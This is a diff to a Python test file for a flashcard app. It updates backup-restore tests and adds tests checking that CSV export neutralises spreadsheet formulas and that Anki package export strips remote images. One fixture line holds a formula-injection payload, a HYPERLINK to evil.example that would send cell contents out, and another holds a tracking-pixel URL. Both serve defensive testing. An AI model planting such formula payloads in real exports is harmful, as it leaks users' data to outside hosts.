@@ -124,7 +124,7 @@ def test_json_export_restore_export_is_byte_identical(tmp_path: Path):
     backup = tmp_path / "backup.json"
     backup.write_text(first, encoding="utf-8")
     fresh = tmp_path / "fresh" / DB_NAME
-    counts = restore_json(backup, fresh)
+    counts = restore_json(backup, fresh).counts
     assert counts["review_log"] == 5 and counts["exam"] == 1
     restored = open_engine(fresh)
     assert export_json(restored) == first
@@ -183,11 +183,13 @@ def test_restore_over_an_existing_collection_swaps_it_and_keeps_a_copy(tmp_path:
     deck.write_text("# Small\n\nQ: a\nA: b\n", encoding="utf-8")
     import_paths(other_engine, [deck], NOW)
     other_engine.dispose()
-    restore_json(backup, other / DB_NAME)
+    kept = restore_json(backup, other / DB_NAME).kept
     assert table(other / DB_NAME, "SELECT count(*) FROM deck") == [(3,)]
-    assert table(other / f"{DB_NAME}.before-restore", "SELECT title FROM deck") == [("Small",)]
+    assert kept.parent == other / "backups" and kept.name.startswith("before-restore-")
+    assert table(kept, "SELECT title FROM deck") == [("Small",)]
     assert not (other / f"{DB_NAME}-wal").exists()
-    assert sorted(p.name for p in other.iterdir()) == [DB_NAME, f"{DB_NAME}.before-restore"]
+    assert sorted(p.name for p in other.iterdir()) == ["backups", DB_NAME]
+    assert list((other / "backups").iterdir()) == [kept]
 
 
 def test_restore_refuses_a_collection_open_in_another_program(tmp_path: Path):
@@ -291,7 +293,8 @@ def test_cli_export_restore_round_trip(tmp_path: Path):
     assert "already has 3 decks" in refused.stderr and "--force" in refused.stderr
     forced = run("restore", "--force", str(first), home=fresh)
     assert forced.returncode == 0, forced.stderr
-    assert (fresh / f"{DB_NAME}.before-restore").exists()
+    kept = next((fresh / "backups").glob("before-restore-*.sqlite3"))
+    assert forced.stdout.splitlines()[-1] == f"the replaced collection was kept as {kept}"
 
 
 def test_cli_restore_errors_are_one_line(tmp_path: Path, tmp_home: Path):
@@ -338,3 +341,55 @@ def test_cli_start_up_does_not_load_exporters_or_parsers():
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          check=True).stdout
     assert out.strip() == "[]"
+
+
+# -- what a spreadsheet or Anki would do with exported text ---------------------------------
+
+RISKY = """\
+# Sheets
+
+Q: =HYPERLINK("http://evil.example/?"&A1, "click")
+A: +1 is not a formula here
+
+Q: @SUM(1, 2)
+A: - a list item
+- another
+
+Q: What does this diagram show?
+A: ![VPC diagram](http://tracker.example/pixel.png) and ![local](diagram.png)
+"""
+
+
+def _risky_collection(tmp_path: Path):
+    deck = tmp_path / "sheets.md"
+    deck.write_text(RISKY, encoding="utf-8")
+    engine = open_engine(tmp_path / "risky" / DB_NAME)
+    import_paths(engine, [deck], NOW)
+    return engine
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path: Path):
+    notes, _ = collect_notes(_risky_collection(tmp_path))
+    text = csv_text(notes)
+    rows = list(csv.reader(io.StringIO(text.split("#tags column:6\n", 1)[1]), delimiter="\t"))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")" in cells
+    assert "'+1 is not a formula here" in cells
+    assert "'@SUM(1, 2)" in cells
+    assert any(c.startswith("'- a list item") for c in cells)
+
+
+def test_apkg_keeps_remote_images_out(tmp_path: Path):
+    out = tmp_path / "risky.apkg"
+    write_apkg(_risky_collection(tmp_path), out)
+    with zipfile.ZipFile(out) as package:
+        package.extract("collection.anki2", tmp_path / "unpacked")
+    conn = sqlite3.connect(tmp_path / "unpacked" / "collection.anki2")
+    try:
+        fields = "\n".join(f for (f,) in conn.execute("SELECT flds FROM notes"))
+    finally:
+        conn.close()
+    assert "<img" not in fields
+    assert "[image: VPC diagram] (http://tracker.example/pixel.png)" in fields
+    assert "[image: local] (diagram.png)" in fields
